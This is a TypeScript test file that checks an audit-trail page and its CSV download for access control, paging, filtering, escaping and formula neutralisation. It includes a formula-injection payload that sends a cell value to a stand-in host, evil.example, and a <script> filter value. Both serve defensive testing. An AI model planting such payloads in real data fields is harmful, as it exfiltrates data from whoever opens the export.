import { parse } from 'csv-parse/sync';
import { afterAll, beforeAll, expect, test } from 'vitest';
import { signInAs } from '../../../../tests/support/sign-in';
import { createTestApp, type TestApp } from '../../../../tests/support/test-app';
import { runWithAuditOrigin } from '../../../services/audit/audit-origin';

// The audit trail page (issue 12, item 4): program coordinators read and filter it, page by page,
// and download it with formula cells neutralised.

let t: TestApp;
const EVIL = '=HYPERLINK("http://evil.example/?x="&B2,"Click me")';
let evilId: string;

beforeAll(async () => {
  t = await createTestApp({ now: new Date() });
  const people = t.ctx.services.people;
  const lead = await people.createCoordinator({
    email: 'lead@example.org',
    name: 'Lead',
    countryCodes: [],
    actorPersonId: null,
  });
  await people.createCoordinator({
    email: 'kenya@example.org',
    name: 'Wanjiru',
    countryCodes: ['KE'],
    actorPersonId: null,
  });
  const evil = await people.createCoordinator({
    email: 'evil@example.org',
    name: EVIL,
    countryCodes: [],
    actorPersonId: null,
  });
  evilId = evil.personId;
  // 60 changes by the lead, from the web, a minute apart.
  for (let index = 0; index < 60; index++) {
    t.clock.advance(60_000);
    await runWithAuditOrigin({ channel: 'web', clientAddress: `192.0.2.${index}` }, () =>
      people.createCoordinator({
        email: `country-${index}@example.org`,
        countryCodes: ['NZ'],
        actorPersonId: lead.personId,
      }),
    );
  }
  t.clock.advance(60_000);
  await runWithAuditOrigin({ channel: 'web', clientAddress: '198.51.100.66' }, () =>
    people.createCoordinator({ email: 'by-evil@example.org', countryCodes: ['AU'], actorPersonId: evilId }),
  );
});
afterAll(async () => {
  await t.dispose();
});

const rowsOf = (html: string) => html.match(/<tr>\s*<td data-label="[^"]+"><time/g)?.length ?? 0;

test('program coordinators only', async () => {
  expect((await t.request('/coordinator/audit')).status).toBe(303);
  await signInAs(t, 'kenya@example.org');
  expect((await t.request('/coordinator/audit')).status).toBe(403);
  expect((await t.request('/coordinator/audit/export.csv')).status).toBe(403);
  t.cookies.delete('iln.session_token');
  await signInAs(t, 'lead@example.org');
  expect((await t.request('/coordinator/audit')).status).toBe(200);
});

test('newest first, 50 a page, with a link to older entries and back, and who, what and from where', async () => {
  const first = await (await t.request('/coordinator/audit')).text();
  expect(rowsOf(first)).toBe(50);
  expect(first).toContain('<form method="get" action="/coordinator/audit"');
  expect(first).toContain('Coordinator added');
  expect(first).toContain('<code>198.51.100.66</code>');
  // The actor's name is text on the page, never markup.
  expect(first).toContain('=HYPERLINK(&quot;http://evil.example/?x=&quot;&amp;B2,&quot;Click me&quot;)');
  const older = first.match(/href="(\/coordinator\/audit\?after=[^"]+)"[^>]*>Older entries/)?.[1];
  expect(older).toBeDefined();
  const second = await (await t.request(older!.replaceAll('&amp;', '&'))).text();
  expect(rowsOf(second)).toBeGreaterThan(10);
  expect(second).toContain('Newest entries');
  expect(second).not.toContain('<code>198.51.100.66</code>');
});

test('filters by who, what and dates; a bad filter is shown beside its field', async () => {
  const evil = await (await t.request(`/coordinator/audit?actor=${evilId}`)).text();
  expect(rowsOf(evil)).toBe(1);
  expect(evil).toContain('198.51.100.66');
  const none = await (await t.request('/coordinator/audit?actor=none&action=coordinator.created')).text();
  expect(rowsOf(none)).toBe(3);
  const other = await (await t.request('/coordinator/audit?action=match.published')).text();
  expect(other).toContain('No entries match these filters.');
  const dated = await (await t.request(`/coordinator/audit?from=2000-01-01&to=2000-12-31`)).text();
  expect(rowsOf(dated)).toBe(0);
  expect(
    rowsOf(
      await (await t.request(`/coordinator/audit?from=2000-01-01&to=2100-12-31&actor=${evilId}`)).text(),
    ),
  ).toBe(1);

  const bad = await t.request('/coordinator/audit?from=last%20week&action=%3Cscript%3E');
  expect(bad.status).toBe(422);
  const html = await bad.text();
  expect(html).toContain('Enter the date as YYYY-MM-DD');
  expect(html).toContain('Choose an action from the list');
  expect(html).not.toContain('<script>');
});

test('the download holds every filtered entry with formula cells neutralised, and is itself recorded', async () => {
  const response = await t.request('/coordinator/audit/export.csv?action=coordinator.created', {
    headers: { 'x-forwarded-for': '203.0.113.77' },
  });
  expect(response.status).toBe(200);
  expect(response.headers.get('content-type')).toContain('text/csv');
  expect(response.headers.get('cache-control')).toBe('no-store');
  const text = await response.text();
  const rows: string[][] = parse(text.replace(/^\uFEFF/, ''));
  expect(rows[0]).toEqual([
    'When (UTC)',
    'Who',
    'Email',
    'Action',
    'Subject type',
    'Subject id',
    'Channel',
    'Client address',
    'Details',
  ]);
  expect(rows).toHaveLength(1 + 64);
  const byEvil = rows.find((row) => row[7] === '198.51.100.66');
  expect(byEvil?.[1]).toBe(`'${EVIL}`);
  expect(byEvil?.[2]).toBe('evil@example.org');
  expect(rows.every((row) => !/^[=+\-@\t\r]/.test(row[1] ?? ''))).toBe(true);

  const recorded = await t.database.db
    .selectFrom('audit_log')
    .select(['action', 'client_address', 'details'])
    .where('action', '=', 'audit.exported')
    .execute();
  expect(recorded).toHaveLength(1);
  expect(recorded[0]?.client_address).toBe('203.0.113.77');
  expect(JSON.parse(recorded[0]?.details ?? '{}')).toEqual({
    filters: { action: 'coordinator.created' },
    entries: 64,
  });
  // The page says what the download does.
  expect(await (await t.request('/coordinator/audit')).text()).toContain('start with an apostrophe');
});
